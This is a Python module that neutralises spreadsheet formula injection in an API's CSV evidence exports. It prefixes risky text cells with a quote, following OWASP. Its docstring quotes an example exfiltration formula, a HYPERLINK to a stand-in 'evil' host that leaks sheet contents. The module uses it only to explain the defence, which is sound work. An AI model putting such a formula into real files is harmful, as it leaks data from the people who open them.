"""CSV cells a spreadsheet will not run: every CSV the API writes goes through `csv_writer`.

A cell whose text starts with `=`, `+`, `-` or `@` is a formula to Excel, LibreOffice and
Google Sheets (`=HYPERLINK("http://evil/?"&A1, "click")` leaks the sheet); a leading tab
or carriage return hides such a start from naive checks. Trace records carry text that
enterprises and their partners chose (lot codes, GLN names, reasons), so an evidence
export must never turn it into code. Following OWASP "CSV Injection", such a cell is
prefixed with a single quote, which spreadsheets show as text and do not evaluate; the
reader sees the original text after the quote. Numbers are written as numbers (a
negative quantity stays `-5`); only text is neutralised.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Final, Protocol

FORMULA_PREFIXES: Final = ("=", "+", "-", "@", "\t", "\r")
"""Leading characters that make a spreadsheet cell a formula (OWASP CSV Injection)."""
NEUTRALISING_PREFIX: Final = "'"


def neutralise_cell(value: Any) -> Any:
    """`value`, with `'` in front if it is text starting with a `FORMULA_PREFIXES` character."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return NEUTRALISING_PREFIX + value
    return value


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


class SafeCsvWriter:
    """`csv.writer` (RFC 4180 quoting, CRLF line ends) that neutralises every cell."""

    def __init__(self, handle: _Writable) -> None:
        self._writer = csv.writer(handle, lineterminator="\r\n")

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise_cell(value) for value in row])


def csv_writer(handle: _Writable) -> SafeCsvWriter:
    """The one CSV writer of the API: RFC 4180, CRLF, formula cells neutralised."""
    return SafeCsvWriter(handle)
